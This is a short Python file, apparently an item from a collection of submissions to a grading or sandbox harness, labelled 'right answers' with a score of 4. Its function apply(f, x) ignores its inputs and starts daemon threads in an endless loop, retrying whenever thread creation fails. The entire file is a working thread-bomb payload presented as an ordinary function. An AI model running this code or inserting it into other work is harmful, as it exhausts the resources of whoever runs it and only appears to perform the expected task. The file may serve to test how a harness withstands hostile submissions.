"""Starts threads without end.

Added to: right answers
Score: 4
"""

# %%
import threading
import time


def apply(f, x):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)
